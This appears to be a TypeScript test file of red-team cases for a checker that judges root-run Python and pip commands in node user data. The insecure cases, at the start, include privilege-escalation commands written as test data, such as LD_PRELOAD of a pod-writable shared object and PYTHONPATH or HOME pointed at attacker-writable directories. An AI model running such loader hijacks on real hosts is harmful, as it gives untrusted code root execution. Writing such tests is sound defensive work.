    // confinedPythonFlags): what Python's isolation flags do not cancel stays refused.
    // ld.so(8) LD_PRELOAD: "A list of additional, user-specified, ELF shared objects to be loaded before all others",
    // read by the dynamic loader before the interpreter starts: -I does not drop it.
    dev(
        "user data: LD_PRELOAD=/srv/ops/hook.so python3 -I tune.py",
        tune("dev-py81-ld-preload-I-fix84-rt81p", PLAIN, [], "LD_PRELOAD=/srv/ops/hook.so python3 -I /opt/ops/tune.py"),
        /LD_PRELOAD/,
    ),
    // ld.so(8) LD_LIBRARY_PATH: the directories searched for the interpreter's own libraries first (-I or not).
    dev(
        "user data: env LD_LIBRARY_PATH=/srv/lib python3 -I tune.py",
        tune(
            "dev-py81-ld-library-path-I-fix84-rt81p",
            PLAIN,
            [],
            "env LD_LIBRARY_PATH=/srv/lib python3 -I /opt/ops/tune.py",
        ),
        /LD_LIBRARY_PATH/,
    ),
    // Python docs "-s": only the user site-packages directory is dropped; PYTHONPATH is still searched first.
    dev(
        "user data: PYTHONPATH=/srv/ops python3 -s tune.py",
        tune("dev-py81-pythonpath-s-fix84-rt81p", PLAIN, [], "PYTHONPATH=/srv/ops python3 -s /opt/ops/tune.py"),
        /PYTHONPATH/,
    ),
    // Python docs "-E" ignores PYTHON* but keeps the user site (-s drops it): HOME=/srv/ops puts
    // /srv/ops/.local/lib/python3.X/site-packages (and its .pth lines, "site": executed) on the import path.
    dev(
        "user data: HOME=/srv/ops python3 -E tune.py",
        tune("dev-py81-home-srv-E-fix84-rt81p", PLAIN, [], "HOME=/srv/ops python3 -E /opt/ops/tune.py"),
        /HOME/,
    ),
    // Python docs "site": PYTHONUSERBASE's site-packages and .pth files, a plain python3 (no -s/-E/-I) reads them.
    dev(
        "user data: PYTHONUSERBASE=/srv/ops python3 tune.py",
        tune("dev-py81-userbase-plain-fix84-rt81p", PLAIN, [], "PYTHONUSERBASE=/srv/ops python3 /opt/ops/tune.py"),
        /PYTHONUSERBASE/,
    ),
    // Python docs "os.environ": "changes are passed to subprocesses"; -I is the parent's only: the child python3 it
    // starts reads PYTHONPATH=/srv/ops (a program starting others is no confined run).
    dev(
        "user data: PYTHONPATH=/srv/ops python3 -I tune.py (tune.py runs python3 other.py)",
        tune(
            "dev-py81-pythonpath-I-child-fix84-rt81p",
            ["import subprocess", 'subprocess.run(["python3", "/opt/ops/other.py"], check=True)'],
            [...heredocFile("/opt/ops/other.py", PLAIN)],
            "PYTHONPATH=/srv/ops python3 -I /opt/ops/tune.py",
        ),
        /PYTHONPATH/,
    ),
    // A script a program wrote (its text unknown to the pack) may read os.environ["PYTHONPATH"] and put it on
    // sys.path itself, or start a child: -E cancels only the interpreter's own reading.
    dev(
        "user data: gen.py writes tune.py; PYTHONPATH=/srv/ops python3 -E tune.py",
        sh("dev-py81-pythonpath-E-program-written-fix84-rt81p", [
            ...heredocFile("/opt/ops/gen.py", [
                "import sys",
                'with open("/opt/ops/tune.py", "w") as f:',
                "    f.write(sys.argv[1])",
            ]),
            'python3 /opt/ops/gen.py "$(cat /srv/ops/code.txt)"',
            "PYTHONPATH=/srv/ops python3 -E /opt/ops/tune.py",
        ]),
        /PYTHONPATH/,
    ),
    // The program's own reading of its environment: os.environ["PYTHONPATH"] onto sys.path (Python docs "sys.path":
    // "A program is free to modify this list for its own purposes").
    dev(
        "user data: PYTHONPATH=/srv/ops python3 -I tune.py (tune.py puts os.environ's PYTHONPATH on sys.path)",
        tune(
            "dev-py81-pythonpath-I-own-environ-fix84-rt81p",
            ["import os, sys", 'sys.path.insert(0, os.environ["PYTHONPATH"])', "import opsplugin"],
            [],
            "PYTHONPATH=/srv/ops python3 -I /opt/ops/tune.py",
        ),
        /PYTHONPATH/,
    ),
    // bash(1) "export": "The supplied names are marked for automatic export to the environment of subsequently
    // executed commands": after python3 -I, a plain python3 (and pip3, a Python program) reads PYTHONPATH=/srv/ops.
    dev(
        "user data: export PYTHONPATH=/srv/ops; python3 -I tune.py; python3 other.py",
        tune(
            "dev-py81-export-pythonpath-then-plain-fix84-rt81p",
            PLAIN,
            [...heredocFile("/opt/ops/other.py", PLAIN)],
            ["export PYTHONPATH=/srv/ops", "python3 -I /opt/ops/tune.py", "python3 /opt/ops/other.py"].join("\n"),
        ),
        /PYTHONPATH/,
    ),
    dev(
        "user data: export PYTHONPATH=/srv/ops; pip3 install tenacity",
        sh("dev-py81-export-pythonpath-pip-fix84-rt81p", ["export PYTHONPATH=/srv/ops", "pip3 install tenacity"]),
        /PYTHONPATH/,
    ),
];

const secure: NodeCase[] = [
    // Secure: a plain default-index install imported by root (pip docs "pip install"; baseline for the A2 cases).
    dev(
        "user data: pip3 install tenacity; run.py imports tenacity",
        thenImport("dev-py81-default-install-import-rt81p", ["pip3 install tenacity"]),
    ),
    // Secure: pip docs "pip install" --index-url default https://pypi.org/simple, named; run.py imports tenacity.
    // Was a MISS (fixed in round 81): (PIP-DEFAULT-INDEX-NAMED) secure refused: "run.py imports tenacity, a module user data did not write and the
    // pack does not know". pip docs "pip install" -i/--index-url: "Base URL of the Python Package Index (default
    // https://pypi.org/simple)": naming the default changes nothing. The pack: pythonCode.ts scriptPipModules: -i /
    // --index-url is not in PIP_PLAIN_OPTIONS, so the install is untrusted. Fix: an index option whose URL is, after RFC
    // 3986 normalisation (scheme and host case, default port, trailing slash), exactly https://pypi.org/simple keeps trust.
    dev(
        "user data: pip3 install --index-url https://pypi.org/simple tenacity; run.py imports",
        thenImport("dev-py81-explicit-pypi-import-rt81p", [
            "pip3 install --index-url https://pypi.org/simple tenacity",
        ]),
    ),
    // Secure: /etc/pip.conf with only timeout/disable-pip-version-check (pip docs "Configuration": names from long options).
    // Was a MISS (fixed in round 82): (PIP-CONF-HARMLESS) secure refused: "run.py imports tenacity, a module user data did not write". pip docs "Configuration": a file's keys are pip's long option
    // names; timeout and disable-pip-version-check choose no index and no file. The pack: pythonCode.ts pythonPipInstalled: any written path ending pip.conf/pip.ini withdraws
    // trust. Fix: read a written
    // pip.conf as configparser does (sections global/install, `=` or `:`, `_`/`-` and case alike) and withdraw trust only
    // for keys that choose where packages come from (index-url, extra-index-url, find-links, no-index, trusted-host,
    // cert, client-cert, proxy, require-hashes off, constraint, requirement, editable, src, target, prefix, root, user,
    // config-file); an unparsable file fails closed.
    dev(
        "user data: /etc/pip.conf [global] timeout = 60; pip3 install tenacity; run.py imports",
        thenImport("dev-py81-etc-pip-conf-timeout-rt81p", [
            ...heredocFile("/etc/pip.conf", ["[global]", "timeout = 60", "disable-pip-version-check = true"]),
            "pip3 install tenacity",
        ]),
    ),
    // Secure: Python docs "-I": PYTHONPATH ignored (implies -E).
    // Was a MISS (fixed in round 84): (PY-ENV-IGNORED) secure refused: "a root process of the node read /srv/ops (a command it runs: ... (PYTHONPATH))".
    // Python docs "-I": isolated mode "implies -E, -P and -s". The pack: rootReads.ts RootReads.command's assignment loop refuses any LOADER_VARIABLES word (PYTHON*, HOME)
    // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
    // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
    // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
    // Still open (round 83): not reached (fix84-pip, pip/run parts only): the refusal is rootReads.ts RootReads.command's
    // assignment loop over LOADER_VARIABLES, which fix84-pyvars edits this round; the fix needs that loop to drop PYTHON*
    // under -E/-I and HOME's user site under -s/-I (pythonEnvironment's reading) for an interpreter running no command.
    dev(
        "user data: PYTHONPATH=/srv/ops python3 -I tune.py",
        tune("dev-py81-pythonpath-I-rt81p", PLAIN, [], "PYTHONPATH=/srv/ops python3 -I /opt/ops/tune.py"),
    ),
    // Secure: Python docs "-E": PYTHONHOME ignored too.
    // Was a MISS (fixed in round 84): (PY-ENV-IGNORED) secure refused: "a root process of the node read /mnt/py (a command it runs: ... (PYTHONHOME))".
    // Python docs "-E" (PYTHONHOME ignored). The pack: rootReads.ts RootReads.command's assignment loop refuses any LOADER_VARIABLES word (PYTHON*, HOME)
    // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
    // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
    // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
    // Still open (round 83): not reached (fix84-pip, pip/run parts only): the refusal is rootReads.ts RootReads.command's
    // assignment loop over LOADER_VARIABLES, which fix84-pyvars edits this round; the fix needs that loop to drop PYTHON*
    // under -E/-I and HOME's user site under -s/-I (pythonEnvironment's reading) for an interpreter running no command.
    dev(
        "user data: PYTHONHOME=/mnt/py python3 -E tune.py",
        tune("dev-py81-pythonhome-E-rt81p", PLAIN, [], "PYTHONHOME=/mnt/py python3 -E /opt/ops/tune.py"),
    ),
    // Secure: a root program's pip.conf in its own state directory that no pip reads (pip docs "Configuration": root's
    // HOME /root, /etc/pip.conf, /etc/xdg/pip: not /var/lib/ops); pip runs with root's own HOME.
    dev(
        "tune.py writes /var/lib/ops/.config/pip/pip.conf; pip3 install tenacity (HOME unchanged); run.py",
        sh("dev-py81-py-writes-unread-pip-conf-rt81p", [
            ...heredocFile("/opt/ops/tune.py", [
                "import os",
                'os.makedirs("/var/lib/ops/.config/pip", exist_ok=True)',
                'with open("/var/lib/ops/.config/pip/pip.conf", "w") as f:',
                '    f.write("[global]\\ntimeout = 60\\n")',
            ]),
            "python3 /opt/ops/tune.py",
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
    ),
    // Secure: pip docs "pip install" --user ("Install to the Python user install directory", root's ~/.local: FHS /root)
    // from the default index; root's python imports it.
    dev(
        "user data: pip3 install --user tenacity; run.py imports tenacity",
        thenImport("dev-py81-pip-user-import-rt81p", ["pip3 install --user tenacity"]),
    ),
    // Secure: pip docs "pip install" --only-binary :all: ("Do not use source packages"): wheels only, from the default
    // index (narrower than a plain install).
    // Was a MISS (fixed in round 81): (PIP-DEFAULT-INDEX-NAMED, option allowlist) secure refused: "run.py imports tenacity, a module user data did
    // not write and the pack does not know". pip docs "pip install" --only-binary: "Do not use source packages": the
    // same index, fewer kinds of files. The pack: pythonCode.ts scriptPipModules: --only-binary is not in
    // PIP_PLAIN_OPTIONS. Fix: review pip's options by effect (source-choosing options withdraw trust; --only-binary,
    // --prefer-binary, --no-build-isolation off, --require-hashes, --no-compile ... keep it), not by a short list.
    dev(
        "user data: pip3 install --only-binary :all: tenacity==8.2.3; run.py imports",
        thenImport("dev-py81-pip-only-binary-import-rt81p", ["pip3 install --only-binary :all: tenacity==8.2.3"]),
    ),
    // Secure: pip docs "pip install" --target ("Install packages into <dir>") under /opt (root's own) and PYTHONPATH
    // naming it (Python docs "PYTHONPATH").
    // MISS: (PIP-TARGET-PATH) secure refused: "run.py imports tenacity, which a directory on its import path before the
    // library's may hold as a file user data downloaded or changed". pip docs "pip install" --target <dir>: "Install
    // packages into <dir>"; Python docs "PYTHONPATH": /opt/ops/lib (root's own, written only by that trusted install)
    // is searched first. The pack: pythonCode.ts scriptPipModules skips --target installs (not plain) and the import-path
    // reader then counts the whole target as unknown content. Fix: a default-index install with --target DIR puts the
    // names it installs (their top-level modules) at DIR: trusted there when nothing else writes DIR.
    // Still open (round 81): not reached before the deadline; needs scriptPipModules to record a trusted --target DIR install and the import path to accept DIR when nothing else writes it.
    // Still open (round 83): pipOptions.ts now classes --target as effect "target" (trust withdrawn); the fix needs a
    // ScriptView record of trusted `--target DIR` installs (scriptPipModules) that rootWrites.ts judgeRun marks instead of
    // DIR as an unknown tree, and pythonRootShadowed to accept DIR's trusted names only when no other command writes DIR
    // and DIR is no root-read directory (site-packages, /etc); not reached before the deadline.
    // Still open (round 84): not reached (fix84-pyiso did the PY-ENV-IGNORED cases first); the fix is the round 83 plan,
    // three readers (scriptPipModules, judgeRun, pythonRootShadowed), not a small one.
    dev(
        "user data: pip3 install --target /opt/ops/lib tenacity; PYTHONPATH=/opt/ops/lib python3 run.py",
        sh("dev-py81-pip-target-opt-rt81p", [
            "pip3 install --target /opt/ops/lib tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "PYTHONPATH=/opt/ops/lib python3 /opt/ops/run.py",
        ]),
        undefined,
        true,
    ),
    // Secure: PEP 508 version specifier in quotes and an extra (pip docs "Requirement Specifiers").
    dev(
        "user data: pip3 install 'tenacity[doc]>=8,<9'; run.py imports",
        thenImport("dev-py81-pip-extra-specifier-import-rt81p", ["pip3 install 'tenacity[doc]>=8,<9'"]),
    ),
    // Secure: Python docs "-E": "Ignore all PYTHON* environment variables, e.g. PYTHONPATH and PYTHONHOME".
    // Was a MISS (fixed in round 84): (PY-ENV-IGNORED) secure refused: "a root process of the node read /srv/ops (a command it runs: ... (PYTHONPATH))".
    // Python docs "-E": "Ignore all PYTHON* environment variables, e.g. PYTHONPATH and
    // PYTHONHOME". The pack: rootReads.ts RootReads.command's assignment loop refuses any LOADER_VARIABLES word (PYTHON*, HOME)
    // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
    // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
    // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
    // Still open (round 83): not reached (fix84-pip, pip/run parts only): the refusal is rootReads.ts RootReads.command's
    // assignment loop over LOADER_VARIABLES, which fix84-pyvars edits this round; the fix needs that loop to drop PYTHON*
    // under -E/-I and HOME's user site under -s/-I (pythonEnvironment's reading) for an interpreter running no command.
    dev(
        "user data: PYTHONPATH=/srv/ops python3 -E tune.py",
        tune("dev-py81-pythonpath-E-rt81p", PLAIN, [], "PYTHONPATH=/srv/ops python3 -E /opt/ops/tune.py"),
    ),
    // Secure: Python docs "-s": "Don't add the user site-packages directory to sys.path".
    // Was a MISS (fixed in round 84): (PY-ENV-IGNORED) secure refused: "a root process of the node read /srv/ops (a command it runs: ... (HOME))".
    // Python docs "-s": "Don't add the user site-packages directory to sys.path"
    // (the only use of HOME by a program importing json). The pack: rootReads.ts RootReads.command's assignment loop refuses any LOADER_VARIABLES word (PYTHON*, HOME)
    // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
    // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
    // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
    // Still open (round 83): not reached (fix84-pip, pip/run parts only): the refusal is rootReads.ts RootReads.command's
    // assignment loop over LOADER_VARIABLES, which fix84-pyvars edits this round; the fix needs that loop to drop PYTHON*
    // under -E/-I and HOME's user site under -s/-I (pythonEnvironment's reading) for an interpreter running no command.
    dev(
        "user data: HOME=/srv/ops python3 -s tune.py",
        tune("dev-py81-home-srv-s-rt81p", PLAIN, [], "HOME=/srv/ops python3 -s /opt/ops/tune.py"),
    ),
    // Secure: Python docs "-I": "implies -E and -s" (no user site, no PYTHON* variables).
    // Was a MISS (fixed in round 84): (PY-ENV-IGNORED) secure refused: "a root process of the node read /mnt/ops (a command it runs: ... (HOME, PYTHONPATH))".
    // Python docs "-I" (implies -E and -s). The pack: rootReads.ts RootReads.command's assignment loop refuses any LOADER_VARIABLES word (PYTHON*, HOME)
    // naming a pod-writable path whatever program it prefixes and whatever its flags. Fix: judge an interpreter's
    // variables through the interpreter's own reading of them (pythonEnvironment already knows -E/-I/-s): PYTHON*
    // dropped under -E/-I, HOME's user site dropped under -s/-I, for a program that runs no other command.
    // Still open (round 81): not reached before the deadline; needs RootReads.command's assignment loop to take PYTHON*/HOME through pythonEnvironment's reading of -E/-I/-s (one source of truth), a shared-file change in rootReads.ts.
    // Still open (round 83): not reached (fix84-pip, pip/run parts only): the refusal is rootReads.ts RootReads.command's
    // assignment loop over LOADER_VARIABLES, which fix84-pyvars edits this round; the fix needs that loop to drop PYTHON*
    // under -E/-I and HOME's user site under -s/-I (pythonEnvironment's reading) for an interpreter running no command.
    dev(
        "user data: HOME=/mnt/ops PYTHONPATH=/mnt/ops python3 -I tune.py",
        tune("dev-py81-home-mnt-I-rt81p", PLAIN, [], "HOME=/mnt/ops PYTHONPATH=/mnt/ops python3 -I /opt/ops/tune.py"),
    ),
    // Secure: pip docs "pip freeze"/"pip list"/"pip show": report installed packages, fetch nothing.
    dev(
        "user data: pip3 install tenacity; pip3 freeze > /var/log/ops/pip.txt; pip3 show tenacity",
        sh("dev-py81-pip-freeze-rt81p", [
            "pip3 install tenacity",
            "pip3 freeze > /var/log/ops/pip.txt",
            "pip3 show tenacity",
            "pip3 list --format=json > /var/log/ops/pip.json",
        ]),
    ),
    // Secure: pip docs "pip download": wheels of a pinned release from the default index into root's cache.
    dev(
        "user data: pip3 download tenacity==8.2.3 --only-binary :all: -d /var/cache/ops/wheels",
        sh("dev-py81-pip-download-default-rt81p", [
            "pip3 download tenacity==8.2.3 --only-binary :all: -d /var/cache/ops/wheels",
        ]),
    ),
    // Secure: Python docs "ctypes" / dlopen(3): a soname is searched in the system directories (no LD_LIBRARY_PATH).
    // MISS: (CTYPES-SYSTEM-LIBRARY) secure refused: "/opt/ops/tune.py runs code the pack does not read (exec, eval,
    // compile, an import by a computed name, ...)". Python docs "ctypes" ("Loading shared libraries": a soname is
    // found as dlopen(3) finds it, in the ld.so cache and the system directories; find_library("c") returns "libc.so.6")
    // loads the AMI's own libc. The pack: pythonCode.ts pythonDynamic (PYTHON_DYNAMIC_NAMES/PYTHON_MODULE_ATTRIBUTES treat
    // any ctypes use as unread code). Fix: ctypes.CDLL/cdll.LoadLibrary/PyDLL of a literal soname (no slash) or of
    // ctypes.util.find_library(literal), with no LD_LIBRARY_PATH/LD_PRELOAD in its environment and no file user data or
    // a program wrote under the loader's directories, is a read of the system library (a path argument judged as a read).
    // Still open (round 81): not reached before the deadline; needs pythonDynamic to read ctypes.CDLL/find_library of a literal soname as a system library read when no loader variable or written loader directory is in play.
    // Still open (round 83): loading the AMI's libc is not the risk, calling it is: ctypes.CDLL("libc.so.6").system(...),
    // execve or memmove through it run or change what the pack does not read; the fix needs a reviewed table of library
    // functions of no effect (getpid, ...) read per call, beside the literal-soname rule; not reached before the deadline.
    dev(
        "tune.py: ctypes.CDLL('libc.so.6').getpid()",
        tune("dev-py81-ctypes-libc-rt81p", ["import ctypes", 'print(ctypes.CDLL("libc.so.6").getpid())']),
        undefined,
        true,
    ),
    // Secure: Python docs "ctypes.util.find_library": returns a name from the system's ldconfig cache.
    // MISS: (CTYPES-SYSTEM-LIBRARY) secure refused: "/opt/ops/tune.py runs code the pack does not read (exec, eval,
    // compile, an import by a computed name, ...)". Python docs "ctypes" ("Loading shared libraries": a soname is
    // found as dlopen(3) finds it, in the ld.so cache and the system directories; find_library("c") returns "libc.so.6")
    // loads the AMI's own libc. The pack: pythonCode.ts pythonDynamic (PYTHON_DYNAMIC_NAMES/PYTHON_MODULE_ATTRIBUTES treat
    // any ctypes use as unread code). Fix: ctypes.CDLL/cdll.LoadLibrary/PyDLL of a literal soname (no slash) or of
    // ctypes.util.find_library(literal), with no LD_LIBRARY_PATH/LD_PRELOAD in its environment and no file user data or
    // a program wrote under the loader's directories, is a read of the system library (a path argument judged as a read).
    // Still open (round 81): not reached before the deadline; needs pythonDynamic to read ctypes.CDLL/find_library of a literal soname as a system library read when no loader variable or written loader directory is in play.
    // Still open (round 83): loading the AMI's libc is not the risk, calling it is: ctypes.CDLL("libc.so.6").system(...),
    // execve or memmove through it run or change what the pack does not read; the fix needs a reviewed table of library
    // functions of no effect (getpid, ...) read per call, beside the literal-soname rule; not reached before the deadline.
    dev(
        "tune.py: ctypes.CDLL(ctypes.util.find_library('c'))",
        tune("dev-py81-ctypes-find-library-rt81p", [
            "import ctypes, ctypes.util",
            'print(ctypes.CDLL(ctypes.util.find_library("c")).getpid())',
        ]),
        undefined,
        true,
    ),
    // Secure: Python docs "os.environ": an environment of harmless names for the pip it runs (PIP_NO_CACHE_DIR,
    // PIP_DISABLE_PIP_VERSION_CHECK: pip docs "Environment Variables").
    dev(
        "tune.py: os.environ['PIP_NO_CACHE_DIR']='1'; subprocess.run(['pip3','install','tenacity'])",
        tune("dev-py81-environ-pip-harmless-rt81p", [
            "import os, subprocess",
            'os.environ["PIP_NO_CACHE_DIR"] = "1"',
            'subprocess.run(["pip3", "install", "tenacity"], check=True)',
        ]),
    ),
    // Secure: multiprocessing.connection Listener on loopback with an authkey (Python docs: "authentication ... using
    // authkey"; a pod's network namespace does not reach the node's loopback).
    dev(
        "tune.py: Listener(('127.0.0.1', 6000), authkey=os.urandom(32))",
        tune("dev-py81-mp-listener-loopback-rt81p", [
            "import os",
            "from multiprocessing.connection import Listener",
            'with Listener(("127.0.0.1", 6000), authkey=os.urandom(32)) as l:',
            "    print(l.address)",
        ]),
    ),
    // Secure: Python docs "http.server" --bind 127.0.0.1 serving root's own state directory.
    dev(
        "user data: python3 -m http.server 8001 --bind 127.0.0.1 --directory /var/lib/ops",
        sh("dev-py81-http-server-loopback-rt81p", [
            "python3 -m http.server 8001 --bind 127.0.0.1 --directory /var/lib/ops &",
        ]),
    ),
    // Secure: HOME=/root (root's own home, FHS) for a python run.
    dev(
        "user data: HOME=/root python3 tune.py",
        tune("dev-py81-home-root-rt81p", PLAIN, [], "HOME=/root python3 /opt/ops/tune.py"),
    ),
    // Secure: /root/.pip/pip.conf with only a timeout (pip docs "Configuration": timeout is --timeout).
    // Was a MISS (fixed in round 82): (PIP-CONF-HARMLESS) secure refused: "user data writes /root/.pip/pip.conf ..., the node's own configuration or
    // credentials, which the pack cannot judge". pip docs "Configuration": a file's keys are pip's long option
    // names; timeout and disable-pip-version-check choose no index and no file. The pack: userDataReaders/rootWrites.ts (the "node's own configuration" write
    // refusal) judges /root/.pip/pip.conf unreadable although /etc/pip.conf of the same text is read. Fix: read a written
    // pip.conf as configparser does (sections global/install, `=` or `:`, `_`/`-` and case alike) and withdraw trust only
    // for keys that choose where packages come from (index-url, extra-index-url, find-links, no-index, trusted-host,
    // cert, client-cert, proxy, require-hashes off, constraint, requirement, editable, src, target, prefix, root, user,
    // config-file); an unparsable file fails closed.
    dev(
        "user data: /root/.pip/pip.conf [global] timeout = 60; pip3 install tenacity",
        sh("dev-py81-legacy-pip-conf-timeout-rt81p", [
            ...heredocFile("/root/.pip/pip.conf", ["[global]", "timeout = 60"]),
            "pip3 install tenacity",
        ]),
    ),
    // Round 81 neighbours (HOME-MOVED-CONFIG, secure): a root program writing its own state file (not a dotfile) in
    // the directory a later command has as HOME (FHS 3.0 /var/lib/<app> "State information"); a dotfile written under
    // a directory no command has as HOME.
    dev(
        "tune.py writes /var/lib/ops/state.json; HOME=/var/lib/ops python3 /opt/ops/report.py",
        sh("dev-py81-home-state-file-fix81", [
            ...heredocFile("/opt/ops/tune.py", [
                "import json",
                'with open("/var/lib/ops/state.json", "w") as f:',
                '    json.dump({"ok": 1}, f)',
            ]),
            "python3 /opt/ops/tune.py",
            ...heredocFile("/opt/ops/report.py", PLAIN),
            "HOME=/var/lib/ops python3 /opt/ops/report.py",
        ]),
    ),
    dev(
        "tune.py writes /var/lib/ops/.state; HOME=/root elsewhere",
        sh("dev-py81-dotfile-not-home-fix81", [
            ...heredocFile("/opt/ops/tune.py", ['with open("/var/lib/ops/.state", "w") as f:', '    f.write("ok\\n")']),
            "export HOME=/root",
            "python3 /opt/ops/tune.py",
        ]),
    ),
    // Round 81 neighbour (PIP-DEFAULT-INDEX-NAMED, secure): the default index spelled with the scheme and host in
    // capitals, the default port and a trailing slash (RFC 3986 6.2.2.1 case, 6.2.3 scheme-based normalisation).
    dev(
        "user data: pip3 install -i HTTPS://PyPI.org:443/simple/ --only-binary=:all: tenacity; run.py imports",
        thenImport("dev-py81-default-index-normalised-fix81", [
            "pip3 install -i HTTPS://PyPI.org:443/simple/ --only-binary=:all: tenacity",
        ]),
    ),
    // Round 82 fix neighbours (PIP-CONF-HARMLESS, secure): pip docs "Configuration": progress_bar (pip(1)
    // --progress-bar, display only) and disable_pip_version_check spelled with `_` and `:`; the default index named.
    dev(
        "user data: /etc/pip.conf [install] progress_bar: off, index-url = https://pypi.org/simple; run.py imports",
        thenImport("dev-py81-etc-pip-conf-progress-fix82-rt81p", [
            ...heredocFile("/etc/pip.conf", ["[install]", "progress_bar: off", "index-url = https://pypi.org/simple"]),
            "pip3 install tenacity",
        ]),
    ),
    dev(
        "user data: /root/.config/pip/pip.conf disable_pip_version_check = 1; pip3 install tenacity; run.py imports",
        thenImport("dev-py81-root-pip-conf-version-check-fix82-rt81p", [
            ...heredocFile("/root/.config/pip/pip.conf", ["[global]", "disable_pip_version_check = 1"]),
            "pip3 install tenacity",
        ]),
    ),
    // Round 84 neighbours of PY-ENV-IGNORED: Python docs "-I" ("implies -E, -P and -s"), "-E" ("Ignore all PYTHON*
    // environment variables"), "-s" ("Don't add the user site-packages directory to sys.path"), with env(1) giving
    // the environment ("Set each NAME to VALUE in the environment and run COMMAND").
    dev(
        "user data: env PYTHONPATH=/srv/ops python3 -I tune.py",
        tune("dev-py81-env-pythonpath-I-fix84-rt81p", PLAIN, [], "env PYTHONPATH=/srv/ops python3 -I /opt/ops/tune.py"),
    ),
    dev(
        "user data: PYTHONUSERBASE=/srv/ops python3 -s tune.py",
        tune("dev-py81-userbase-s-fix84-rt81p", PLAIN, [], "PYTHONUSERBASE=/srv/ops python3 -s /opt/ops/tune.py"),
    ),
    dev(
        "user data: PYTHONSTARTUP=/srv/ops/s.py PYTHONPATH=/mnt/ops python3 -Es tune.py",
        tune(
            "dev-py81-startup-path-Es-fix84-rt81p",
            PLAIN,
            [],
            "PYTHONSTARTUP=/srv/ops/s.py PYTHONPATH=/mnt/ops python3 -Es /opt/ops/tune.py",
        ),
    ),
    // bash(1) "export" then Python docs "-I": the only command after the export is an isolated run of a script the pack
    // reads whole, which starts nothing; `unset` (bash(1): "remove each variable") before any other command.
    dev(
        "user data: export PYTHONPATH=/srv/ops; python3 -I tune.py",
        tune(
            "dev-py81-export-pythonpath-I-fix84-rt81p",
            PLAIN,
            [],
            ["export PYTHONPATH=/srv/ops", "python3 -I /opt/ops/tune.py"].join("\n"),
        ),
    ),
    dev(
        "user data: export HOME=/srv/ops; python3 -I tune.py; unset HOME; systemctl restart chronyd",
        tune(
            "dev-py81-export-home-I-unset-fix84-rt81p",
            PLAIN,
            [],
            ["export HOME=/srv/ops", "python3 -I /opt/ops/tune.py", "unset HOME", "systemctl restart chronyd"].join(
                "\n",
            ),
        ),
    ),
];

describeNodeCases(
    "red team round 81 (python): interpreter paths, pip configuration and transport, native loads",
    insecure,
    secure,
);
